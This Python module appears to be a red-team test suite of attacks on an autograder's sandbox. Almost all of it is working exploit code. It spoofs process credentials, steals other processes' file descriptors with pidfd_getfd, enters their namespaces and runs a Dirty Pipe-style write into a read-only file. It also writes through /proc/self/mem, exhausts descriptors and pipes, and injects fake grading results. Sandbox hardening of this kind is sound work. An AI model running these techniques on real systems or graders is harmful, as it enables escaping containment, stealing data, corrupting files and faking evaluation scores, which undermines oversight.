"""What a descriptor can do: reach others from within a pair, carry further descriptors, be reopened, fill what is shared."""

from __future__ import annotations

from .attack import Handed, Place, attack, code
from .line import LINE

SYSTEM = code("""
    import ctypes, os, platform, signal, socket, struct, sys, time
    libc, ARM = ctypes.CDLL(None, use_errno=True), platform.machine() == 'aarch64'
    def system(number, *arguments, arm=None):
        'A call by its number; from 424 on it is the same on both machines. Below zero: there is none.'
        number = arm if ARM and arm is not None else number
        numbers = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
        return libc.syscall(ctypes.c_long(number), *numbers) if number >= 0 else -1
    def tried(act, *arguments, **more):
        try: return act(*arguments, **more)
        except (OSError, ValueError, AttributeError): return None
    def graders():
        'Whoever holds the other ends, and whom this process was forked from'
        found = {os.getppid()}
        for fd in range(3, 64):
            try:
                with socket.socket(fileno=os.dup(fd)) as line: found.add(struct.unpack('iii', line.getsockopt(1, 17, 12))[0])
            except OSError: pass
        return {pid for pid in found if pid > 0} - {os.getpid()}
""")
"""Calls to the system by their numbers, on x86_64 and aarch64."""
PAIRS = code("""
    def pair(kind=socket.SOCK_DGRAM, family=socket.AF_UNIX):
        'By its number: what stands in the upper half of an argument is not looked at by the system'
        ends = (ctypes.c_int * 2)()
        return [*ends] if system(53, family, kind, 0, ends, arm=199) == 0 else []
    ADDRESSES = [struct.pack('H', 1) + name.encode() for name in (DATAGRAM + '\\0', PACKETS + '\\0', '\\0' + NAMELESS)]
""")


@attack(
    "datagram-to-a-path",
    "One end of a pair of datagram sockets sends to another process: to its path, and to its name without one.",
    quick=True,
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + code(r"""
            import socket
            count = 19
            for to in (DATAGRAM, '\0' + NAMELESS):
                try: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(MARK.encode(), to)
                except OSError: pass
        """)
    )


@attack(
    "descriptor-to-an-accomplice",
    "A datagram brings an accomplice a socket, and what comes back through that is an open TCP connection.",
    quick=True,
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + code("""
            import array, socket
            count = 19
            try:
                ours, theirs = socket.socketpair()
                rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [theirs.fileno()]))
                socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendmsg([b'x'], [rights], 0, DATAGRAM)
                ours.settimeout(3)
                for handle in socket.recv_fds(ours, 10, 4)[1]: socket.socket(fileno=handle).sendall(MARK.encode())
            except OSError: pass
        """)
    )


@attack(
    "pairs-in-disguise",
    "Pairs that are of datagrams and are not called so: raw, with more in the number than the system reads, of packets.",
    quick=True,
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + PAIRS
        + code("""
            count, high = 19, 1 << 32
            for kind, family in ((3, 1), (2 | high, 1), (2, 1 | high), (3 | 0o2004000, 1), (2 | 0o2000000, 1 | 7 << 40), (5, 1), (2, 30)):
                for end in pair(kind, family):
                    for to in ADDRESSES: system(44, end, MARK.encode(), 20, 0, to, len(to), arm=206)
        """)
    )


@attack(
    "sends-by-other-calls",
    "What leaves a pair for a path goes by `sendmmsg`, by `connect` and `write`, by `splice`, and fast or out of band.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + PAIRS
        + code("""
            count = 19
            class Part(ctypes.Structure): _fields_ = [('at', ctypes.c_char_p), ('size', ctypes.c_size_t)]
            class Header(ctypes.Structure):
                _fields_ = [('name', ctypes.c_char_p), ('size', ctypes.c_uint), ('parts', ctypes.c_void_p),
                            ('many', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controls', ctypes.c_size_t), ('flags', ctypes.c_int)]
            class Both(ctypes.Structure): _fields_ = [('header', Header), ('sent', ctypes.c_uint)]
            part, text = Part(MARK.encode(), 20), MARK.encode()
            for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
                for to in ADDRESSES:
                    for end in pair(kind):
                        both = (Both * 2)(*[Both(Header(to, len(to), ctypes.addressof(part), 1, None, 0, 0))] * 2)
                        system(307, end, both, 2, 0, arm=269)
                        system(46, end, ctypes.byref(both[0].header), 0x20000000, arm=211)  # MSG_FASTOPEN
                        system(44, end, text, 20, 0x20000001, to, len(to), arm=206)
                        if libc.connect(end, to, len(to)) == 0 or libc.bind(end, b'\\1\\0', 2) == 0:
                            ends = os.pipe()
                            os.write(ends[1], text)
                            tried(os.splice, ends[0], end, 20) if hasattr(os, 'splice') else None
                            tried(os.write, end, text)
                        os.close(end)
        """)
    )


@attack(
    "pair-with-a-name",
    "The ends of pairs are given names by which others may reach them, wait for callers, or are led elsewhere.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + PAIRS
        + code("""
            count = 19
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                for name in (b'\\1\\0', struct.pack('H', 1) + b'\\0' + MARK.encode(), struct.pack('H', 1) + f'{MARK}-{kind}\\0'.encode()):
                    for end in pair(kind):
                        if libc.bind(end, name, len(name)) == 0: boast('has a name for others')
                        if libc.listen(end, 5) == 0: boast('waits for callers')
                        for to in (b'\\0' * 2, *ADDRESSES): libc.connect(end, to, len(to))
                        tried(os.write, end, MARK.encode())
                        os.close(end)
        """)
    )


@attack(
    "line-of-descriptors", "Tens of thousands of descriptors go over the line to the grader, within frames and alone."
)
def _(n: Handed, at: Place) -> None:
    n.put(
        scale=LINE
        + code("""
            import socket
            scale = 9.0
            own = [os.open('own', os.O_RDWR | os.O_CREAT), *os.pipe(), *(end.detach() for end in socket.socketpair())]
            for i in range(300 if line is not None else 0):
                for data in (frames.packed(Stream('stdout', '.')), b'\\xff' if i == 299 else framed(b'{}')):
                    try: socket.send_fds(line, [data], (own * 50)[:250], socket.MSG_DONTWAIT)
                    except OSError: time.sleep(0.01)
        """)
    )


@attack(
    "descriptors-in-flight",
    "Descriptors are sent and never received, and rings of sockets sent into each other: the system counts them by user.",
    quick=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        scale=code("""
            import os, socket, time
            scale, kept, sent = 9.0, [], 0
            for i in range(400):
                try:
                    a, b = socket.socketpair()
                    socket.send_fds(a, [b'x'], [b.fileno(), a.fileno()])
                    socket.send_fds(b, [b'x'], [a.fileno(), b.fileno()])
                    a.close(), b.close()
                except OSError: break
            own = os.open('own', os.O_RDWR | os.O_CREAT)
            for i in range(100):
                try:
                    kept.append(socket.socketpair())
                    for _ in range(100): sent += socket.send_fds(kept[-1][0], [b'x'], [own] * 250, socket.MSG_DONTWAIT)
                except OSError: pass
            time.sleep(6)
        """),
        count="time.sleep(6)  # while others hand their answers in\ncount = 19",
    )


@attack(
    "door-of-odd-sockets",
    "Through the door come sockets that are their own other end, that signal, that end, that are the door or the line.",
    quick=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        scale=code("""
            import fcntl, os, socket
            scale = 9.0
            def hand_over():
                door = socket.socket(fileno=os.dup(int(os.environ['ISOMETRY_CHANNEL'][3:])))
                def give(*ends):
                    for end in ends: socket.send_fds(door, [b'+'], [end.fileno()])
                a, b = socket.socketpair()
                give(a, b, a, b, door)
                a.send(b'\\0' * 8)
                with socket.socket(fileno=os.dup(3)) as line: give(line)
                c, d = socket.socketpair()
                for command, value in ((fcntl.F_SETOWN, os.getppid()), (10, 28), (fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC)):
                    try: fcntl.fcntl(d, command, value)
                    except OSError: pass
                for option, value in ((42, 7), (18, 1), (20, 1 << 30), (8, 1), (7, 1)):  # peeking, waiting for more, small buffers
                    try: d.setsockopt(socket.SOL_SOCKET, option, value)
                    except OSError: pass
                give(d)
                c.send(b'\\0\\0')
                e, f = socket.socketpair()
                give(f)
                f.shutdown(socket.SHUT_RD)
            def check(*a, **k):
                try: hand_over()
                except (OSError, KeyError, ValueError): pass
                return 2.0
        """)
    )


@attack("out-of-band", "Bytes out of band go over the line, the door and the connections that come through it.")
def _(n: Handed, at: Place) -> None:
    n.put(
        scale=code("""
            import os, socket, time
            scale = 9.0
            from autograder.judging.protocol import hand_in; from autograder.kernels import frames
            def urgent(fd):
                with socket.socket(fileno=os.dup(fd)) as one:
                    for data in (b'\\xff', b'\\0\\0\\0\\1', b'x'):
                        try: one.send(data, socket.MSG_OOB | socket.MSG_DONTWAIT)
                        except OSError: pass
            def check(*a, **k):
                try:
                    urgent(int(os.environ['ISOMETRY_CHANNEL'][3:]))
                    for i in range(20):
                        with hand_in._connected(os.environ['ISOMETRY_CHANNEL']) as own:
                            own.send(b'\\0\\0\\0')
                            urgent(own.fileno())
                            own.send(b'\\x20\\0\\0\\0\\0{}')
                except (OSError, KeyError, ValueError): pass
                return 2.0
        """),
        vector=code("""
            vector = [1.0, 2.0, 3.0]
            if 'ISOMETRY_CHANNEL' in os.environ: urgent(3)
        """),
    )


@attack(
    "credentials",
    "Over the lines it says to be another process and another user, and asks for those of the other side.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        scale=at.known()
        + SYSTEM
        + code("""
            scale = 9.0
            def claim(fd):
                with socket.socket(fileno=os.dup(fd)) as one:
                    for option in (16, 34, 76): tried(one.setsockopt, 1, option, 1)
                    for who in ((os.getppid(), 0, 0), (1, 0, 0), (BYSTANDER, 0, 0), (os.getpid(), 12345, 12345)):
                        tried(one.sendmsg, [b''], [(1, 2, struct.pack('iii', *who))], socket.MSG_DONTWAIT)
                        if tried(one.sendmsg, [b'+'], [(1, 2, struct.pack('iii', *who))], socket.MSG_DONTWAIT) and who[0] != os.getpid():
                            boast('passed for another process')
            def check(*a, **k):
                for fd in range(3, 8): tried(claim, fd)
                return 2.0
        """)
    )


@attack(
    "handles-of-others",
    "A handle of the grader comes from the line itself, one of another process from its number; both are put to use.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count, handles = 19, []
            for fd in range(3, 64):
                def peer():
                    with socket.socket(fileno=os.dup(fd)) as one: return one.getsockopt(1, 77)  # SO_PEERPIDFD
                own = f'Pid:\\t{os.getpid()}\\n'
                if (found := tried(peer)) and own not in open(f'/proc/self/fdinfo/{found}').read(): handles.append(found)
            others = [handle for pid in (BYSTANDER, *graders()) if (handle := system(434, pid, 0)) >= 0]
            for handle in [*others, *handles]:
                if system(424, handle, 0, None, 0) == 0: boast('may signal another process')
                for fd in (HANDLE, *range(3, 20)):
                    if (copy := system(438, handle, fd, 0)) >= 0:
                        boast('took a descriptor from another process')
                        print(tried(os.pread, copy, 1000, 0))
                for request in range(0xff01, 0xff0b):
                    if libc.ioctl(handle, request, 0) > 0: boast('has a namespace of another process')
                if system(308, handle, 0x40000000, arm=268) == 0: boast('lives in the namespace of another process')
            for handle in others: system(424, handle, signal.SIGUSR1, None, 0)
        """)
    )


@attack("programs-in-sockets", "A socket of a pair is given a filter: a program that the system's own kernel runs.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count, taken = 19, (ctypes.c_ulong * 1)(0x7fff000000000006)  # return all there is
            program = struct.pack('HxxxxxxP', 1, ctypes.addressof(taken))
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                try: one = socket.socketpair(socket.AF_UNIX, kind)[0]
                except OSError: continue
                for option in (26, 51):
                    if libc.setsockopt(one.fileno(), 1, option, program, 16) == 0: boast('has a program within the system')
        """)
    )


@attack(
    "reopened-lines", "What is open is opened again, by its place in `/proc`: for more than it was, or from its start."
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            import fcntl
            count = 19
            for fd in range(0, 64):
                for way in (os.O_RDONLY, os.O_RDWR, os.O_WRONLY, os.O_RDWR | os.O_TRUNC):
                    for place in ('/proc/self/fd', '/proc/thread-self/fd', f'/proc/{os.getpid()}/fd', '/dev/fd'):
                        again = tried(os.open, f'{place}/{fd}', way | os.O_NONBLOCK)
                        if again is None: continue
                        where = os.readlink(f'/proc/self/fd/{again}')
                        if way == os.O_RDONLY: print(tried(os.read, again, 1000))
                        elif fcntl.fcntl(fd, fcntl.F_GETFL) & 3 == 0 and not where.startswith(('/dev/', 'pipe:')):
                            boast('may write what it was given to read')
        """)
    )


@attack("full-pipes", "As many pipes as can be, each made as large as it may be, and filled.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=code("""
            import fcntl, os, socket, time
            count, full = 19, 0
            try:
                while True:
                    ends = os.pipe()
                    os.set_blocking(ends[1], False)
                    for size in (1 << 31, 1 << 24, 1 << 20):
                        try: fcntl.fcntl(ends[1], 1031, size)
                        except OSError: pass
                    try:
                        while True: full += os.write(ends[1], bytes(1 << 20))
                    except BlockingIOError: pass
                    if full > 400_000_000:
                        print('boa' + 'sts: filled pipes with more than it may hold;')
                        break
            except OSError: pass
            time.sleep(2)
        """)
    )


@attack(
    "every-descriptor", "It opens until nothing can be opened any more: pipes, sockets, and all that waits or counts."
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            import select
            count, kept, watching = 19, [], []
            while (made := libc.inotify_init1(0)) >= 0: watching.append(made)
            if len(watching) >= 100: boast('took all that the user may have to watch folders')
            for made in watching: os.close(made)
            makes = (lambda: os.eventfd(0), lambda: os.dup(1), lambda: select.epoll(), lambda: libc.timerfd_create(1, 0),
                     lambda: libc.signalfd(-1, bytes(128), 8), lambda: os.pipe())
            for make in makes * 100:
                try: kept.append(make())
                except OSError: break
            for a in kept[2::6]:
                for b in kept[2::6]: tried(a.register, b.fileno()) if hasattr(a, 'register') and hasattr(b, 'fileno') else None
        """)
    )


@attack(
    "pages-of-a-file",
    "Pages of a file that may only be read are put into pipes, mappings and copies, and written to there.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            import mmap
            count, note = 19, os.open(NOTE, os.O_RDONLY)
            ends, text = os.pipe(), b'# ' + MARK.encode()
            for end in ends: os.set_blocking(end, False)
            tried(os.write, ends[1], bytes(65536))
            tried(os.read, ends[0], 65536)
            libc.splice(note, ctypes.byref(ctypes.c_long(1)), ends[1], None, ctypes.c_size_t(1), 0)
            tried(os.write, ends[1], text)  # behind it, in the same page, on Linux 5.8 to 5.16
            libc.tee(ends[0], os.pipe()[1], ctypes.c_size_t(4), 2)
            mapped = mmap.mmap(note, 0, mmap.MAP_SHARED, mmap.PROT_READ)
            at_ = libc.mmap
            at_.restype, at_.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
            for how in (1, 2, 3):
                where = at_(None, 4096, 1, how, note, 0)
                if where in (None, ctypes.c_void_p(-1).value): continue
                libc.mprotect(ctypes.c_void_p(where), ctypes.c_size_t(4096), 3)
                memory = tried(os.open, '/proc/self/mem', os.O_RDWR)
                if memory is not None: tried(os.pwrite, memory, text, where)
            out = os.open(NOTE, os.O_RDONLY)
            with open('mine', 'wb+') as mine:
                mine.write(text)
                mine.flush()
                mine.seek(0)
                tried(os.copy_file_range, mine.fileno(), out, 20, 0, 0)
                tried(os.sendfile, out, mine.fileno(), 0, 20)
            for act in (lambda: os.truncate(NOTE, 0), lambda: os.ftruncate(note, 0),
                        lambda: libc.fallocate(note, 0, ctypes.c_long(0), ctypes.c_long(9))):
                tried(act)
        """)
    )
